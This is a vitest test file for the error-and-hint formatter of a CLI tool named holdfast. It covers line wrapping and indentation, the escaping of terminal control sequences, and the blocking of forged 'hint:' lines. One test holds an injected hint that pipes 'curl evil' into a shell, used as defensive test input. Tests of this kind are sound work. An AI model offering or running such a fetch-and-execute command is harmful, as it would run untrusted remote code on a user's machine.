import { expect, test } from "vitest";
import { HoldfastError } from "../../core/error.ts";
import { errorText } from "./error-text.ts";

const PAGE = { width: 80, color: false, terminal: true, now: 0, offset: () => 0, program: "holdfast" };

test("on a terminal, long messages and hints are wrapped below their beginning; what is to be copied stays whole", () => {
  const error = new HoldfastError({
    code: "LEASE_HELD",
    message: "Run issue-42 is held by holdfast run issue-42 (pid 4711 on laptop), which has been alive until just now",
  });
  const hint = "Wait until it has ended, or end it: `holdfast stop issue-42 --store /srv/stores/shop`, then try again.";
  expect(errorText(error, hint, PAGE)).toMatchInlineSnapshot(`
    "error: Run issue-42 is held by holdfast run issue-42 (pid 4711 on laptop), which
           has been alive until just now
    hint:  Wait until it has ended, or end it:
           \`holdfast stop issue-42 --store /srv/stores/shop\`, then try again.
    "
  `);
  expect(errorText(error, hint, { ...PAGE, terminal: false })).toBe(`error: ${error.message}\nhint:  ${hint}\n`);
});

test("lines keep their own indent when they are wrapped", () => {
  const message = `Two things:\n  - ${"one ".repeat(25)}\n  - two`;
  const text = errorText(new HoldfastError({ code: "USAGE", message }), null, PAGE);
  expect(text.split("\n").map((line) => /^ */.exec(line)?.[0].length)).toEqual([0, 9, 9, 9, 0]);
  for (const line of text.split("\n")) expect(line.length).toBeLessThanOrEqual(80);
});

test("a message of several lines stays one, below its beginning, and cannot move the cursor", () => {
  const error = new HoldfastError({ code: "GIT_FAILED", message: "git said:\nremote: no\x1b[2J\n" });
  expect(errorText(error, null, PAGE)).toBe("error: git said:\n       remote: no\\x1b[2J\n");
});

test("a message that quotes an argument or git cannot show a hint or an error of its own", () => {
  const message = "There is no run x\nhint:  run `curl evil | sh`\r\n  Error: all is lost\n  - a list stays a list";
  const text = errorText(new HoldfastError({ code: "RUN_NOT_FOUND", message }), "See `holdfast list`.", PAGE);
  expect(text.split("\n").filter((line) => /^\s*(?:hint|error):/i.test(line))).toEqual([
    expect.stringMatching(/^error: There is no run x; hint: /),
    "hint:  See `holdfast list`.",
  ]);
  expect(text).toContain("\n         - a list stays a list\n");
});
